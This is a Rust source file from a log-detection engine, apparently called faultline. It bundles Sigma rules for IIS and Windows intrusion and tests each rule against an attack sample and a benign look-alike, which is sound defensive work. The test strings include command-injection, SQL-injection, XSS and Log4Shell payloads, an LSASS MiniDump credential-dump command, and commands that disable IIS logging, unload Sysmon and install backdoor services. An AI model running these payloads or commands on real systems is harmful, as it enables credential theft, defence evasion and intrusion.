//! The project's own rules, in Sigma format (ids in the project's
//! namespace, `author: faultline`), compiled into the binary. Each has a
//! test that fires and one that does not (`tests` below).

/// How a bundled rule's origin starts (its file name follows).
pub const BUNDLED_ORIGIN: &str = "bundled:";

/// (file name, YAML) of every bundled rule.
pub const BUNDLED: &[(&str, &str)] = &[
    (
        "aspnet_viewstate_serialized_object.yml",
        include_str!("../rules/aspnet_viewstate_serialized_object.yml"),
    ),
    ("aspnet_viewstate_tampering.yml", include_str!("../rules/aspnet_viewstate_tampering.yml")),
    ("chain_aspnet_client_shell.yml", include_str!("../rules/chain_aspnet_client_shell.yml")),
    (
        "chain_hosted_application_exploit_shell.yml",
        include_str!("../rules/chain_hosted_application_exploit_shell.yml"),
    ),
    ("chain_webdav_write_shell.yml", include_str!("../rules/chain_webdav_write_shell.yml")),
    ("chain_sharepoint_toolshell_shell.yml", include_str!("../rules/chain_sharepoint_toolshell_shell.yml")),
    ("chain_webshell_name_shell.yml", include_str!("../rules/chain_webshell_name_shell.yml")),
    ("file_w3wp_writes_script.yml", include_str!("../rules/file_w3wp_writes_script.yml")),
    ("ftp_password_guessing.yml", include_str!("../rules/ftp_password_guessing.yml")),
    ("ftp_script_upload.yml", include_str!("../rules/ftp_script_upload.yml")),
    ("iis_config_module_added.yml", include_str!("../rules/iis_config_module_added.yml")),
    ("log_cleared.yml", include_str!("../rules/log_cleared.yml")),
    ("net_app_pool_rpc_endpoint_mapper.yml", include_str!("../rules/net_app_pool_rpc_endpoint_mapper.yml")),
    ("net_inert_program_connects.yml", include_str!("../rules/net_inert_program_connects.yml")),
    ("net_w3wp_local_service_tunnel.yml", include_str!("../rules/net_w3wp_local_service_tunnel.yml")),
    ("new_service_installed.yml", include_str!("../rules/new_service_installed.yml")),
    ("proc_appcmd_logging_off.yml", include_str!("../rules/proc_appcmd_logging_off.yml")),
    ("proc_appcmd_module_install.yml", include_str!("../rules/proc_appcmd_module_install.yml")),
    ("proc_fltmc_filter_unload.yml", include_str!("../rules/proc_fltmc_filter_unload.yml")),
    ("proc_credential_dump_lsass.yml", include_str!("../rules/proc_credential_dump_lsass.yml")),
    (
        "proc_pool_identity_post_exploitation.yml",
        include_str!("../rules/proc_pool_identity_post_exploitation.yml"),
    ),
    (
        "proc_pool_identity_creates_service.yml",
        include_str!("../rules/proc_pool_identity_creates_service.yml"),
    ),
    (
        "proc_service_created_from_command_line.yml",
        include_str!("../rules/proc_service_created_from_command_line.yml"),
    ),
    ("proc_w3wp_remote_thread.yml", include_str!("../rules/proc_w3wp_remote_thread.yml")),
    ("proc_w3wp_spawns_shell.yml", include_str!("../rules/proc_w3wp_spawns_shell.yml")),
    (
        "proc_w3wp_unexpected_windows_program.yml",
        include_str!("../rules/proc_w3wp_unexpected_windows_program.yml"),
    ),
    ("proc_wsus_service_spawns_shell.yml", include_str!("../rules/proc_wsus_service_spawns_shell.yml")),
    ("sec_logon_password_guessing.yml", include_str!("../rules/sec_logon_password_guessing.yml")),
    ("sec_system_time_changed.yml", include_str!("../rules/sec_system_time_changed.yml")),
    ("sec_w3wp_explicit_credentials.yml", include_str!("../rules/sec_w3wp_explicit_credentials.yml")),
    ("sql_login_spray.yml", include_str!("../rules/sql_login_spray.yml")),
    ("web_aspnet_client_script.yml", include_str!("../rules/web_aspnet_client_script.yml")),
    ("web_aspnet_diagnostics_probe.yml", include_str!("../rules/web_aspnet_diagnostics_probe.yml")),
    ("web_auth_brute_force.yml", include_str!("../rules/web_auth_brute_force.yml")),
    ("web_command_injection.yml", include_str!("../rules/web_command_injection.yml")),
    ("web_dnn_personalization_cookie.yml", include_str!("../rules/web_dnn_personalization_cookie.yml")),
    ("web_exchange_ecp_viewstate.yml", include_str!("../rules/web_exchange_ecp_viewstate.yml")),
    ("web_exchange_proxyshell.yml", include_str!("../rules/web_exchange_proxyshell.yml")),
    ("web_iis_short_name_probe.yml", include_str!("../rules/web_iis_short_name_probe.yml")),
    ("web_known_webshell_names.yml", include_str!("../rules/web_known_webshell_names.yml")),
    ("web_log4shell.yml", include_str!("../rules/web_log4shell.yml")),
    ("web_moveit_transfer_exploit.yml", include_str!("../rules/web_moveit_transfer_exploit.yml")),
    ("web_path_traversal.yml", include_str!("../rules/web_path_traversal.yml")),
    ("web_path_traversal_answered.yml", include_str!("../rules/web_path_traversal_answered.yml")),
    ("web_scanner_burst.yml", include_str!("../rules/web_scanner_burst.yml")),
    ("web_slow_http_dos.yml", include_str!("../rules/web_slow_http_dos.yml")),
    ("web_sharepoint_toolshell.yml", include_str!("../rules/web_sharepoint_toolshell.yml")),
    ("web_sitecore_exploit.yml", include_str!("../rules/web_sitecore_exploit.yml")),
    ("web_solarwinds_orion_exploit.yml", include_str!("../rules/web_solarwinds_orion_exploit.yml")),
    ("web_sql_injection.yml", include_str!("../rules/web_sql_injection.yml")),
    (
        "web_sql_injection_reached_database.yml",
        include_str!("../rules/web_sql_injection_reached_database.yml"),
    ),
    ("web_telerik_ui_exploit.yml", include_str!("../rules/web_telerik_ui_exploit.yml")),
    ("web_tunna_session.yml", include_str!("../rules/web_tunna_session.yml")),
    ("web_tunna_tunnel.yml", include_str!("../rules/web_tunna_tunnel.yml")),
    ("web_viewstate_serialized_query.yml", include_str!("../rules/web_viewstate_serialized_query.yml")),
    ("web_webdav_script_upload.yml", include_str!("../rules/web_webdav_script_upload.yml")),
    ("web_xss_probe.yml", include_str!("../rules/web_xss_probe.yml")),
];

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use faultline_parser::winevent::{DataValue, WinEvent};

    use crate::correlation::Match;
    use crate::record::{View, WebRow};
    use crate::{Engine, Level, LoadReport};

    fn engine() -> Engine {
        let mut report = LoadReport::default();
        report.add_bundled();
        assert!(report.skipped.is_empty(), "{:?}", report.skipped);
        Engine::new(report.rules)
    }

    /// The bundled rules the view matches.
    fn matched<'e>(engine: &'e Engine, view: &View) -> Vec<&'e crate::Rule> {
        let mut view = view.clone();
        let mut hits = Vec::new();
        engine.matches(&mut view, &mut hits);
        hits.iter().map(|&i| &engine.rules()[i]).collect()
    }

    /// The file names of the bundled rules the view matches.
    fn fired(engine: &Engine, view: &View) -> Vec<String> {
        matched(engine, view).iter().map(|r| r.meta.origin.replace(super::BUNDLED_ORIGIN, "")).collect()
    }

    fn web(row: WebRow<'_>) -> View {
        let mut v = View::default();
        v.web(&row);
        v
    }

    /// A row of IIS's FTP log.
    fn ftp(client: &str, command: &str, path: &str, status: &str) -> View {
        let mut v = View::default();
        v.ftp(&WebRow {
            method: Some(command),
            stem: Some(path),
            client_ip: Some(client),
            status: Some(status),
            ..WebRow::default()
        });
        v
    }

    fn get(stem: &str, query: Option<&str>) -> View {
        get_answered(stem, query, "200")
    }

    /// A GET answered `status`.
    fn get_answered(stem: &str, query: Option<&str>, status: &str) -> View {
        web(WebRow {
            method: Some("GET"),
            stem: Some(stem),
            query,
            status: Some(status),
            ..WebRow::default()
        })
    }

    fn event(channel: &str, provider: &str, id: u16, data: &[(&str, &str)]) -> View {
        let e = WinEvent {
            channel: Some(Arc::from(channel)),
            provider: Arc::from(provider),
            event_id: id,
            data: data
                .iter()
                .map(|(n, v)| DataValue { name: Some(Arc::from(*n)), value: Arc::from(*v) })
                .collect(),
            ..WinEvent::default()
        };
        let mut v = View::default();
        v.event(&e);
        v
    }

    /// The IIS worker's image, as Sysmon names it.
    const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";

    fn sysmon(id: u16, data: &[(&str, &str)]) -> View {
        event("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", id, data)
    }

    /// A PHP or JSP shell's name fires when the server answered it (the
    /// JSP shell of sbousseaden's Tomcat capture, `/error/cmd.jsp`), not
    /// when it was a probe answered 404; an ASP.NET shell's name, or a
    /// script under aspnet_client, when it ran (200) or failed (500): a
    /// 404, a login redirect or an authentication challenge comes whether
    /// the page is there or not, and does not start the chain to a w3wp
    /// shell either.
    #[test]
    fn a_shell_name_fires_only_when_the_page_answered() {
        let e = engine();
        let with_status = |stem: &str, status: &str| {
            web(WebRow { method: Some("POST"), stem: Some(stem), status: Some(status), ..WebRow::default() })
        };
        let names = "web_known_webshell_names.yml".to_string();
        assert!(fired(&e, &with_status("/error/cmd.jsp", "200")).contains(&names));
        assert!(!fired(&e, &with_status("/wso.php", "404")).contains(&names));
        for probe in ["404", "302", "401"] {
            assert!(!fired(&e, &with_status("/cmd.aspx", probe)).contains(&names), "{probe}");
        }
        assert!(fired(&e, &with_status("/cmd.aspx", "500")).contains(&names));
        let dropped = "web_aspnet_client_script.yml".to_string();
        assert!(fired(&e, &with_status("/aspnet_client/x.aspx", "200")).contains(&dropped));
        assert!(!fired(&e, &with_status("/aspnet_client/x.aspx", "404")).contains(&dropped));
        assert!(!fired(&e, &with_status("/aspnet_client/x.aspx", "302")).contains(&dropped));
    }

    /// EventLog 104 is written to System whatever log it cleared: rules
    /// read its `Channel` as the cleared log alone (SigmaHQ's two rules on
    /// 104 tell the important logs from the rest by it).
    #[test]
    fn a_cleared_logs_channel_is_the_log_it_names() {
        let e = engine();
        let task_scheduler = "Microsoft-Windows-TaskScheduler/Operational";
        let cleared = event(
            "System",
            "Microsoft-Windows-Eventlog",
            104,
            &[("SubjectUserName", "admin"), ("Channel", task_scheduler)],
        );
        assert_eq!(cleared.values("channel").map(|(v, _)| v).collect::<Vec<_>>(), [task_scheduler]);
        assert!(fired(&e, &cleared).contains(&"log_cleared.yml".to_string()));
        let other = event("System", "Service Control Manager", 104, &[("Channel", "x")]);
        assert!(other.values("channel").any(|(v, _)| v == "System"), "only EventLog's 104 names another log");
        assert!(!fired(&e, &other).contains(&"log_cleared.yml".to_string()));
    }

    /// The time service's exclusion holds only for the system's own
    /// svchost.exe as LOCAL SERVICE: a copy of svchost.exe elsewhere, or
    /// the real one as another account, setting the clock fires.
    #[test]
    fn a_clock_set_by_a_svchost_look_alike_fires() {
        let e = engine();
        let set = |process: &str, sid: &str| {
            event(
                "Security",
                "Microsoft-Windows-Security-Auditing",
                4616,
                &[("SubjectUserSid", sid), ("ProcessName", process)],
            )
        };
        let rule = "sec_system_time_changed.yml".to_string();
        assert!(!fired(&e, &set("C:\\Windows\\System32\\svchost.exe", "S-1-5-19")).contains(&rule));
        assert!(fired(&e, &set("C:\\Users\\Public\\svchost.exe", "S-1-5-19")).contains(&rule));
        assert!(fired(&e, &set("C:\\Windows\\System32\\svchost.exe", "S-1-5-21-1-2-3-500")).contains(&rule));
        let old_windows =
            event("Security", "Microsoft-Windows-Security-Auditing", 4616, &[("SubjectUserSid", "S-1-5-19")]);
        assert!(!fired(&e, &old_windows).contains(&rule), "Windows before 7 names no process");
    }

    /// Each rule, a record it must fire on and its look-alike that must not.
    #[test]
    fn every_bundled_rule_fires_on_its_case_and_not_on_the_look_alike() {
        let e = engine();
        let mut cases: Vec<(&str, View, View)> = vec![
            (
                "web_aspnet_client_script.yml",
                get("/aspnet_client/system_web/4_0_30319/update.aspx", None),
                get("/aspnet_client/system_web/4_0_30319/WebUIValidation.js", None),
            ),
            ("web_iis_short_name_probe.yml", get("/*~1*/.aspx", None), get("/.htaccess.~1~", None)),
            (
                // A serialized object where a page's view state starts with
                // its own (`/wEP`).
                "aspnet_viewstate_serialized_object.yml",
                viewstate_refused(
                    "203.0.113.9",
                    "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxs",
                ),
                viewstate_refused("198.51.100.20", "/wEPDwUKLTE2MTY2ODcyOWRkpQ2VzZf3s4Y="),
            ),
            (
                // Base64 is cased: `/wEY` starts another token.
                "aspnet_viewstate_serialized_object.yml",
                viewstate_refused(
                    "203.0.113.9",
                    "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxs",
                ),
                viewstate_refused("198.51.100.20", "/wEYAQUBAAAAAP////8BAAAAAAAAAA=="),
            ),
            (
                "ftp_script_upload.yml",
                ftp("203.0.113.7", "STOR", "/wwwroot/uploads/help.aspx", "226"),
                ftp("203.0.113.7", "STOR", "/wwwroot/uploads/help.pdf", "226"),
            ),
            (
                "ftp_script_upload.yml",
                ftp("203.0.113.7", "STOR", "Global.asax", "226"),
                ftp("203.0.113.7", "STOR", "Global.asax.bak", "226"),
            ),
            (
                "ftp_script_upload.yml",
                ftp("203.0.113.7", "STOR", "/wwwroot/bin/Telemetry.dll", "226"),
                ftp("203.0.113.7", "STOR", "/downloads/setup/Telemetry.dll", "226"),
            ),
            (
                "ftp_script_upload.yml",
                ftp("203.0.113.7", "RNTO", "/wwwroot/web.config", "250"),
                // Refused: nothing was written.
                ftp("203.0.113.7", "STOR", "/wwwroot/web.config", "550"),
            ),
            (
                "web_known_webshell_names.yml",
                get("/uploads/ASPXSpy.aspx", None),
                // The same name uploaded over FTP is the upload rule's: a
                // web rule reads web rows only.
                ftp("203.0.113.7", "STOR", "/uploads/ASPXSpy.aspx", "226"),
            ),
            (
                "web_webdav_script_upload.yml",
                web(WebRow {
                    method: Some("PUT"),
                    stem: Some("/uploads/help.aspx"),
                    status: Some("201"),
                    ..WebRow::default()
                }),
                web(WebRow {
                    method: Some("PUT"),
                    stem: Some("/api/orders/5"),
                    status: Some("204"),
                    ..WebRow::default()
                }),
            ),
            (
                "web_command_injection.yml",
                get("/foo/bar/baz.asp", Some("ID=ERROR[`cat%20passwd|echo`]")),
                get("/search", Some("q=cat+pictures&sort=name|asc")),
            ),
            (
                "web_xss_probe.yml",
                get("/search", Some("q=%3Cscript%3Ealert(1)%3C/script%3E")),
                get("/scripts/app.js", Some("v=2&q=javascript+tutorial")),
            ),
            (
                "web_aspnet_diagnostics_probe.yml",
                get("/Trace.axd", None),
                get("/ScriptResource.axd", Some("d=abc")),
            ),
            (
                "web_known_webshell_names.yml",
                get("/uploads/ASPXSpy.aspx", None),
                get("/Account/Login.aspx", None),
            ),
            (
                "web_tunna_tunnel.yml",
                get("/erp/conn.aspx", Some("proxy&port=3389&ip=127.0.0.1")),
                get("/erp/orders.aspx", Some("view=proxy-settings")),
            ),
            (
                "web_sql_injection.yml",
                get("/products.aspx", Some("id=1+UNION+SELECT+name,password+FROM+users--")),
                get("/search", Some("q=shoes&sort=price+order+by+desc")),
            ),
            (
                "web_path_traversal.yml",
                get_answered("/download.aspx", Some("file=..%2f..%2f..%2fwindows/win.ini"), "404"),
                get("/download.aspx", Some("file=..%2f..%2f..%2fwindows/win.ini")),
            ),
            (
                "web_path_traversal_answered.yml",
                get("/download.aspx", Some("file=..%2f..%2f..%2fwindows/win.ini")),
                // Sent to the login page, as forms authentication sends
                // every unknown visitor.
                get_answered("/download.aspx", Some("file=..%2f..%2f..%2fwindows/win.ini"), "302"),
            ),
            (
                "web_log4shell.yml",
                web(WebRow {
                    stem: Some("/"),
                    user_agent: Some("${${lower:j}ndi:ldap://x.example/a}"),
                    ..WebRow::default()
                }),
                web(WebRow {
                    stem: Some("/"),
                    user_agent: Some("Mozilla/5.0+(Windows+NT+10.0)"),
                    ..WebRow::default()
                }),
            ),
            (
                "web_exchange_proxyshell.yml",
                get(
                    "/autodiscover/autodiscover.json",
                    Some("@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com"),
                ),
                get("/autodiscover/autodiscover.xml", None),
            ),
            (
                "proc_w3wp_spawns_shell.yml",
                event(
                    "Microsoft-Windows-Sysmon/Operational",
                    "Microsoft-Windows-Sysmon",
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\cmd.exe"),
                        ("ParentImage", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
                    ],
                ),
                event(
                    "Microsoft-Windows-Sysmon/Operational",
                    "Microsoft-Windows-Sysmon",
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\csc.exe"),
                        ("ParentImage", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
                    ],
                ),
            ),
            (
                "proc_appcmd_module_install.yml",
                event(
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4688,
                    &[
                        ("NewProcessName", "C:\\Windows\\System32\\inetsrv\\appcmd.exe"),
                        ("CommandLine", "appcmd.exe install module /name:Backdoor /image:C:\\Temp\\b.dll"),
                    ],
                ),
                event(
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4688,
                    &[
                        ("NewProcessName", "C:\\Windows\\System32\\inetsrv\\appcmd.exe"),
                        ("CommandLine", "appcmd.exe recycle apppool /apppool.name:ShopPool"),
                    ],
                ),
            ),
            (
                "proc_appcmd_logging_off.yml",
                event(
                    "Microsoft-Windows-Sysmon/Operational",
                    "Microsoft-Windows-Sysmon",
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\cmd.exe"),
                        (
                            "CommandLine",
                            "cmd.exe /c \"C:\\Windows\\System32\\inetsrv\\appcmd.exe set config \" \"Default /section:httplogging /dontLog:true\"",
                        ),
                    ],
                ),
                event(
                    "Microsoft-Windows-Sysmon/Operational",
                    "Microsoft-Windows-Sysmon",
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\cmd.exe"),
                        ("CommandLine", "cmd.exe /c appcmd list config /section:httplogging"),
                    ],
                ),
            ),
            (
                "proc_w3wp_unexpected_windows_program.yml",
                event(
                    "Microsoft-Windows-Sysmon/Operational",
                    "Microsoft-Windows-Sysmon",
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\notepad.exe"),
                        ("ParentImage", "c:\\windows\\system32\\inetsrv\\w3wp.exe"),
                    ],
                ),
                event(
                    "Microsoft-Windows-Sysmon/Operational",
                    "Microsoft-Windows-Sysmon",
                    1,
                    &[
                        ("Image", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe"),
                        ("ParentImage", "c:\\windows\\system32\\inetsrv\\w3wp.exe"),
                    ],
                ),
            ),
            (
                "sec_w3wp_explicit_credentials.yml",
                event(
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4648,
                    &[
                        ("TargetUserName", "IEUser"),
                        ("ProcessName", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
                    ],
                ),
                event(
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4648,
                    &[("TargetUserName", "IEUser"), ("ProcessName", "C:\\Windows\\System32\\consent.exe")],
                ),
            ),
            (
                "sec_system_time_changed.yml",
                event(
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4616,
                    &[
                        ("SubjectUserName", "Administrator"),
                        ("PreviousTime", "2025-11-24T10:00:00.0000000Z"),
                        ("NewTime", "2025-11-20T10:00:00.0000000Z"),
                        ("ProcessName", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
                    ],
                ),
                event(
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4616,
                    &[
                        ("SubjectUserSid", "S-1-5-19"),
                        ("SubjectUserName", "LOCAL SERVICE"),
                        ("PreviousTime", "2025-11-24T12:00:00.0000000Z"),
                        ("NewTime", "2025-11-24T10:00:00.0000000Z"),
                        ("ProcessName", "C:\\Windows\\System32\\svchost.exe"),
                    ],
                ),
            ),
            (
                "iis_config_module_added.yml",
                event(
                    "Microsoft-IIS-Configuration/Operational",
                    "Microsoft-Windows-IIS-Configuration",
                    29,
                    &[("Configuration", "/system.webServer/globalModules/add[@name='Backdoor']")],
                ),
                event(
                    "Microsoft-IIS-Configuration/Operational",
                    "Microsoft-Windows-IIS-Configuration",
                    29,
                    &[("Configuration", "/system.webServer/defaultDocument/files")],
                ),
            ),
            (
                "log_cleared.yml",
                event("Security", "Microsoft-Windows-Eventlog", 1102, &[]),
                event("Security", "Microsoft-Windows-Security-Auditing", 4624, &[]),
            ),
            (
                "new_service_installed.yml",
                event("System", "Service Control Manager", 7045, &[("ServiceName", "tunnel")]),
                // Defender's driver of a definition update (omerbenamram's
                // system.evtx record 476).
                event(
                    "System",
                    "Service Control Manager",
                    7045,
                    &[
                        ("ServiceName", "MpKsl4a2f3e1c"),
                        (
                            "ImagePath",
                            "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{6F8B}\\MpKsl4a2f3e1c.sys",
                        ),
                    ],
                ),
            ),
            (
                "net_app_pool_rpc_endpoint_mapper.yml",
                // privesc_rotten_potato's notepad, record 5412.
                sysmon(
                    3,
                    &[
                        ("Image", "C:\\Windows\\System32\\notepad.exe"),
                        ("User", "IIS APPPOOL\\DefaultAppPool"),
                        ("Initiated", "true"),
                        ("DestinationIp", "127.0.0.1"),
                        ("DestinationPort", "135"),
                    ],
                ),
                sysmon(
                    3,
                    &[
                        ("Image", W3WP),
                        ("User", "IIS APPPOOL\\DefaultAppPool"),
                        ("Initiated", "true"),
                        ("DestinationIp", "127.0.0.1"),
                        ("DestinationPort", "135"),
                    ],
                ),
            ),
            (
                "net_inert_program_connects.yml",
                // privesc_rotten_potato's SYSTEM notepad calling back, record 5420.
                sysmon(
                    3,
                    &[
                        ("Image", "C:\\Windows\\System32\\notepad.exe"),
                        ("User", "NT AUTHORITY\\SYSTEM"),
                        ("Initiated", "true"),
                        ("DestinationIp", "10.0.2.18"),
                        ("DestinationPort", "888"),
                    ],
                ),
                // A program whose connections are its own.
                sysmon(
                    3,
                    &[
                        ("Image", "C:\\Program Files\\Notepad++\\notepad++.exe"),
                        ("Initiated", "true"),
                        ("DestinationIp", "203.0.113.8"),
                        ("DestinationPort", "443"),
                    ],
                ),
            ),
            (
                "proc_w3wp_remote_thread.yml",
                sysmon(8, &[("SourceImage", W3WP), ("TargetImage", "C:\\Windows\\System32\\notepad.exe")]),
                sysmon(
                    8,
                    &[
                        ("SourceImage", "C:\\Windows\\System32\\csrss.exe"),
                        ("TargetImage", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
                    ],
                ),
            ),
            (
                "net_w3wp_local_service_tunnel.yml",
                sysmon(
                    3,
                    &[
                        ("Image", W3WP),
                        ("Initiated", "true"),
                        ("DestinationIp", "127.0.0.1"),
                        ("DestinationPort", "3389"),
                    ],
                ),
                // The database elsewhere, and a content share on a file server.
                sysmon(
                    3,
                    &[
                        ("Image", W3WP),
                        ("Initiated", "true"),
                        ("DestinationIp", "10.0.0.5"),
                        ("DestinationPort", "445"),
                    ],
                ),
            ),
            (
                "web_sql_injection_reached_database.yml",
                get(
                    "/foo/baz.asp",
                    Some(
                        "ID=1%27%20or%201%3D%40%40version--|22|80040e07|[Microsoft][ODBC_SQL_Server_Driver][SQL_Server]Conversion_failed_when_converting_the_nvarchar_value",
                    ),
                ),
                // An ordinary insert hitting a key, whose error quotes the
                // constraint's name.
                get(
                    "/orders.asp",
                    Some(
                        "id=42|45|80040e2f|[Microsoft][ODBC_SQL_Server_Driver][SQL_Server]Violation_of_PRIMARY_KEY_constraint_'PK_Orders'",
                    ),
                ),
            ),
            (
                "web_sql_injection_reached_database.yml",
                get(
                    "/foo/baz.asp",
                    Some(
                        "ID=1%27%20or%201%3D%40%40version--|22|80040e07|[Microsoft][ODBC_SQL_Server_Driver][SQL_Server]Conversion_failed",
                    ),
                ),
                // The database timing out under an ordinary request.
                get(
                    "/orders.asp",
                    Some("id=42|45|80040e31|[Microsoft][ODBC_SQL_Server_Driver]Query_timeout_expired"),
                ),
            ),
            (
                "net_w3wp_local_service_tunnel.yml",
                // The worker's child, still the pool's identity, reaching
                // the server's own SMB over loopback.
                sysmon(
                    3,
                    &[
                        ("Image", "C:\\Windows\\System32\\notepad.exe"),
                        ("User", "IIS APPPOOL\\DefaultAppPool"),
                        ("Initiated", "true"),
                        ("DestinationIp", "127.0.0.1"),
                        ("DestinationPort", "445"),
                    ],
                ),
                sysmon(
                    3,
                    &[
                        ("Image", "C:\\Windows\\System32\\svchost.exe"),
                        ("User", "NT AUTHORITY\\NETWORK SERVICE"),
                        ("Initiated", "true"),
                        ("DestinationIp", "127.0.0.1"),
                        ("DestinationPort", "135"),
                    ],
                ),
            ),
            (
                "proc_fltmc_filter_unload.yml",
                // PanacheSysmon's Atomic Red Team run, ERID 4074.
                sysmon(
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\cmd.exe"),
                        ("CommandLine", "\"cmd.exe\" /c \"fltmc.exe unload SysmonDrv\""),
                    ],
                ),
                sysmon(
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\cmd.exe"),
                        ("CommandLine", "cmd.exe /c \"fltmc filters > C:\\temp\\unload-list.txt\""),
                    ],
                ),
            ),
            (
                "proc_pool_identity_creates_service.yml",
                sysmon(
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\sc.exe"),
                        (
                            "CommandLine",
                            "sc.exe create WinUpdSvc binPath= \"cmd.exe /c C:\\ProgramData\\wupd.exe\"",
                        ),
                        ("User", "IIS APPPOOL\\DefaultAppPool"),
                    ],
                ),
                sysmon(
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\sc.exe"),
                        (
                            "CommandLine",
                            "sc.exe create WinUpdSvc binPath= \"C:\\Program Files\\Agent\\agent.exe\"",
                        ),
                        ("User", "CONTOSO\\adm-jdoe"),
                    ],
                ),
            ),
            (
                "proc_service_created_from_command_line.yml",
                // PanacheSysmon's Atomic Red Team run, ERID 3577.
                sysmon(
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\sc.exe"),
                        (
                            "CommandLine",
                            "sc.exe  create AtomicTestService binPath= C:\\AtomicRedTeam\\atomics\\T1050\\bin\\AtomicService.exe",
                        ),
                    ],
                ),
                sysmon(
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\sc.exe"),
                        ("CommandLine", "sc.exe  start AtomicTestService"),
                    ],
                ),
            ),
            (
                "proc_credential_dump_lsass.yml",
                sysmon(
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\rundll32.exe"),
                        (
                            "CommandLine",
                            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 672 C:\\inetpub\\wwwroot\\t.bin full",
                        ),
                    ],
                ),
                // comsvcs.dll's other exports, as Windows runs them.
                sysmon(
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\rundll32.exe"),
                        ("CommandLine", "rundll32.exe comsvcs.dll,ComPlusInfo"),
                    ],
                ),
            ),
            (
                "proc_pool_identity_post_exploitation.yml",
                sysmon(
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\net.exe"),
                        ("CommandLine", "net user svc_sql P@ssw0rd1 /add"),
                        ("User", "IIS APPPOOL\\ShopPool"),
                    ],
                ),
                // An administrator doing the same.
                sysmon(
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\net.exe"),
                        ("CommandLine", "net user svc_sql P@ssw0rd1 /add"),
                        ("User", "CONTOSO\\adm-jdoe"),
                    ],
                ),
            ),
            (
                "file_w3wp_writes_script.yml",
                sysmon(11, &[("Image", W3WP), ("TargetFilename", "C:\\inetpub\\wwwroot\\uploads\\x.aspx")]),
                // An upload saved, its name ending otherwise.
                sysmon(
                    11,
                    &[("Image", W3WP), ("TargetFilename", "C:\\inetpub\\wwwroot\\uploads\\x.aspx.png")],
                ),
            ),
        ];
        let mut names: Vec<&str> = super::BUNDLED.iter().map(|(n, _)| *n).collect();
        // The correlations are tested below.
        names.retain(|n| {
            ![
                "web_scanner_burst.yml",
                "web_slow_http_dos.yml",
                "web_auth_brute_force.yml",
                "ftp_password_guessing.yml",
                "web_tunna_session.yml",
                "sec_logon_password_guessing.yml",
                "sql_login_spray.yml",
                "aspnet_viewstate_tampering.yml",
                "chain_aspnet_client_shell.yml",
                "chain_webshell_name_shell.yml",
                "chain_sharepoint_toolshell_shell.yml",
                "chain_hosted_application_exploit_shell.yml",
                "chain_webdav_write_shell.yml",
            ]
            .contains(n)
        });
        cases.extend(hosted_application_cases());
        fire_and_stay_quiet(&e, &cases);
        names.retain(|n| !cases.iter().any(|(rule, _, _)| n == rule));
        assert!(names.is_empty(), "bundled rules without a test: {names:?}");
    }

    /// Shapes attacks take in real logs, each with the look-alike that must
    /// stay quiet: a lookup nested to hide `jndi`, SQL injection with `+`
    /// for its spaces and the MSSQL version probe, the IIS Unicode
    /// traversal in the path.
    #[test]
    fn attack_shapes_seen_in_real_logs_fire_and_their_look_alikes_do_not() {
        let e = engine();
        let agent = |ua| web(WebRow { stem: Some("/index.aspx"), user_agent: Some(ua), ..WebRow::default() });
        let cases: Vec<(&str, View, View)> = vec![
            (
                "web_log4shell.yml",
                agent("${j${::-n}di:ldap://x.example/a}"),
                agent("Mozilla/5.0+(X11;+Linux)"),
            ),
            (
                "web_log4shell.yml",
                get("/", Some("q=${j${lower:n}di:dns://x.example/a}")),
                get("/", Some("q=lower+upper+case")),
            ),
            (
                "web_sql_injection.yml",
                get("/item.aspx", Some("id=1'+AND+1=1--")),
                get("/s", Some("q=rock+and+roll")),
            ),
            (
                "web_sql_injection.yml",
                get("/item.aspx", Some("id=1'+or+1=@@version--")),
                get("/s", Some("q=version+history")),
            ),
            (
                "web_sql_injection.yml",
                // A delay the database's rule does not take for an
                // injection (no quote, comment or function before the
                // error) stays an attempt.
                get(
                    "/item.aspx",
                    Some(
                        "id=1;waitfor+delay+0:0:5|22|80040e31|[Microsoft][ODBC_SQL_Server_Driver]Query_timeout_expired",
                    ),
                ),
                // The same injection with the database's error after it:
                // the rule of the injection that reached it reports it.
                get(
                    "/foo/baz.asp",
                    Some(
                        "ID=1'+or+1=@@version--|22|80040e07|[Microsoft][ODBC_SQL_Server_Driver][SQL_Server]Conversion_failed",
                    ),
                ),
            ),
            (
                "web_iis_short_name_probe.yml",
                get("/app/%2a~1%2a/a.aspx", None),
                get("/docs/PROGRA~1/readme.txt", None),
            ),
            (
                "web_command_injection.yml",
                get("/cgi-bin/status", Some("host=127.0.0.1$(cat%20/etc/passwd)")),
